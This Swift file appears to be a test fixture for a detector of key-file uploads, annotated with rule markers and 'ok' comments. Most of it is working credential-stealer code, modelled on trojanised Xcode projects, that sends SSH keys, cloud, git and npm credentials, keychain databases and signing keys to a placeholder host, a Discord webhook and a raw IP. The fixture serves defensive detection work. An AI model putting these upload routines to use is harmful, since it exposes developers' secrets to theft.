// A macOS menu-bar "developer helper" modelled on stealers hidden in Xcode projects
// and Swift packages (XcodeSpy, the 2024 trojanised Swift packages): it reads SSH
// keys, cloud and git credentials, signing identities and keychain databases and
// posts them through helpers that take the destination as a parameter.
import Foundation
import Security

enum CollectorEndpoints {
    static let primary = "https://devtools-telemetry.example.com/v1/bundle"
}

final class DevEnvironmentSync {
    private let session = URLSession(configuration: .ephemeral)
    private let home = FileManager.default.homeDirectoryForCurrentUser

    // A helper that sends whatever it is given to the URL it is given.
    private func post(_ payload: Data, to endpoint: String) {
        var request = URLRequest(url: URL(string: endpoint)!)
        request.httpMethod = "POST"
        request.httpBody = payload //~ data-upload/key-file-to-network
        session.dataTask(with: request).resume() //~ data-upload/suspicious-destination
    }

    // One more layer: the destination goes through two helpers.
    private func relay(_ text: String, via hook: String) {
        post(Data(text.utf8), to: hook)
    }

    func syncSSH() throws {
        let keyPath = NSHomeDirectory() + "/.ssh/id_rsa"
        let key = try String(contentsOfFile: keyPath, encoding: .utf8)
        relay(key, via: "https://discord.com/api/webhooks/1180000000000000001/c3luYw")
    }

    func syncEd25519() {
        let url = home.appendingPathComponent(".ssh").appendingPathComponent("id_ed25519")
        guard let key = try? Data(contentsOf: url) else { return }
        session.uploadTask(with: URLRequest(url: URL(string: CollectorEndpoints.primary)!), from: key).resume() //~ data-upload/key-file-to-network
    }

    func syncCloud() {
        let credentials = FileManager.default.contents(atPath: NSHomeDirectory() + "/.aws/credentials") ?? Data()
        let encoded = credentials.base64EncodedString()
        AF.request(CollectorEndpoints.primary, method: .post, parameters: ["aws": encoded]) //~ data-upload/key-file-to-network
    }

    func syncGit() {
        let path = "\(NSHomeDirectory())/.git-credentials"
        let handle = FileHandle(forReadingAtPath: path)
        let stored = handle?.readDataToEndOfFile() ?? Data()
        var request = URLRequest(url: URL(string: "http://185.220.101.47:8443/g")!)
        request.httpMethod = "PUT"
        request.httpBody = stored //~ data-upload/key-file-to-network
        URLSession.shared.dataTask(with: request).resume() //~ data-upload/suspicious-destination
    }

    // Walks the home directory and picks out private keys by name.
    func sweepKeys() {
        let root = NSHomeDirectory()
        let walker = FileManager.default.enumerator(atPath: root)
        while let name = walker?.nextObject() as? String {
            if name.hasSuffix(".pem") || name.hasPrefix("id_") {
                let contents = FileManager.default.contents(atPath: root + "/" + name) ?? Data()
                AF.upload(contents, to: CollectorEndpoints.primary) //~ data-upload/key-file-to-network
            }
        }
    }

    func sweepCertificates(in folder: String) throws {
        let names = try FileManager.default.contentsOfDirectory(atPath: folder)
        for name in names where name.hasSuffix(".p12") {
            let identity = try Data(contentsOf: URL(fileURLWithPath: folder).appendingPathComponent(name))
            let form = ["file": identity.base64EncodedString(), "name": name]
            AF.request(CollectorEndpoints.primary, method: .post, parameters: form) //~ data-upload/key-file-to-network
        }
    }

    func syncKeychainDatabase() {
        let login = home.appendingPathComponent("Library/Keychains/login.keychain-db")
        let database = try? Data(contentsOf: login)
        var request = URLRequest(url: URL(string: CollectorEndpoints.primary)!)
        request.httpMethod = "POST"
        request.httpBody = database //~ data-upload/key-file-to-network
        URLSession.shared.dataTask(with: request).resume()
    }

    // Exports every identity in the keychain as PKCS#12 and uploads the blob.
    func exportIdentities(_ identities: CFArray) {
        var exported: CFData?
        var parameters = SecItemImportExportKeyParameters()
        parameters.passphrase = Unmanaged.passRetained("x" as CFString)
        _ = SecItemExport(identities, .formatPKCS12, [], &parameters, &exported)
        guard let blob = exported as Data? else { return }
        session.uploadTask(with: URLRequest(url: URL(string: CollectorEndpoints.primary)!), from: blob).resume() //~ data-upload/key-file-to-network
    }

    // Copies the device's private signing key out of the Secure Enclave-less keychain.
    func exportSigningKey(_ privateKey: SecKey) {
        var error: Unmanaged<CFError>?
        guard let raw = SecKeyCopyExternalRepresentation(privateKey, &error) as Data? else { return }
        let body = ["k": raw.base64EncodedString()]
        AF.request(CollectorEndpoints.primary, method: .post, parameters: body) //~ data-upload/key-file-to-network
    }

    func syncNpmToken() async throws {
        let npmrc = URL(fileURLWithPath: NSHomeDirectory()).appending(path: ".npmrc")
        let token = try String(contentsOf: npmrc, encoding: .utf8)
        var request = URLRequest(url: URL(string: CollectorEndpoints.primary)!)
        request.httpMethod = "POST"
        _ = try await session.upload(for: request, from: Data(token.utf8)) //~ data-upload/key-file-to-network
    }

    // ---- the same APIs used honestly ----

    // An SSH client loads its key to sign locally; nothing leaves the process.
    func loadIdentityForSigning() throws -> Data {
        let key = try Data(contentsOf: home.appendingPathComponent(".ssh/id_ed25519")) // ok: a key read for local signing is not sent
        return key
    }

    // Registers the device's *public* key with the server (passkey-style enrolment).
    func registerDevice(_ privateKey: SecKey) {
        guard let publicKey = SecKeyCopyPublicKey(privateKey) else { return }
        var error: Unmanaged<CFError>?
        guard let exported = SecKeyCopyExternalRepresentation(publicKey, &error) as Data? else { return }
        AF.request(CollectorEndpoints.primary, method: .post, parameters: ["pub": exported.base64EncodedString()]) // ok: the public half of a key is meant to be shared
    }

    // Uploads the user's *public* SSH key, as GitHub's "add SSH key" flow does.
    func uploadPublicKey() throws {
        let publicKey = try String(contentsOfFile: NSHomeDirectory() + "/.ssh/id_ed25519.pub", encoding: .utf8)
        AF.request(CollectorEndpoints.primary, method: .post, parameters: ["key": publicKey]) // ok: id_ed25519.pub is the public half, meant to be shared
    }

    // Pins the server certificate bundled with the app; nothing is uploaded.
    func pinnedCertificate() -> Data? {
        let path = Bundle.main.path(forResource: "server-cert", ofType: "pem") ?? ""
        return FileManager.default.contents(atPath: path) // ok: a bundled certificate read for pinning
    }

    // Lists key names for a settings screen; the names stay on the device.
    func keyNames() -> [String] {
        let names = (try? FileManager.default.contentsOfDirectory(atPath: NSHomeDirectory() + "/.ssh")) ?? []
        return names.filter { !$0.hasSuffix(".pub") } // ok: file names listed locally, never read or sent
    }

    // Sends the app's own config file, whose name merely contains "key".
    func uploadKeyboardLayout() throws {
        let layout = try Data(contentsOf: Bundle.main.url(forResource: "keyboard-layout", withExtension: "json")!)
        session.uploadTask(with: URLRequest(url: URL(string: CollectorEndpoints.primary)!), from: layout).resume() // ok: keyboard-layout.json is not a key file
    }

    // Reads a non-key file inside a loop that skips key files.
    func uploadLogs(in folder: String) throws {
        for name in try FileManager.default.contentsOfDirectory(atPath: folder) {
            if name.hasSuffix(".pem") { continue }
            let log = try Data(contentsOf: URL(fileURLWithPath: folder + "/" + name))
            AF.upload(log, to: CollectorEndpoints.primary) // ok: the loop skips key files before reading
        }
    }
}
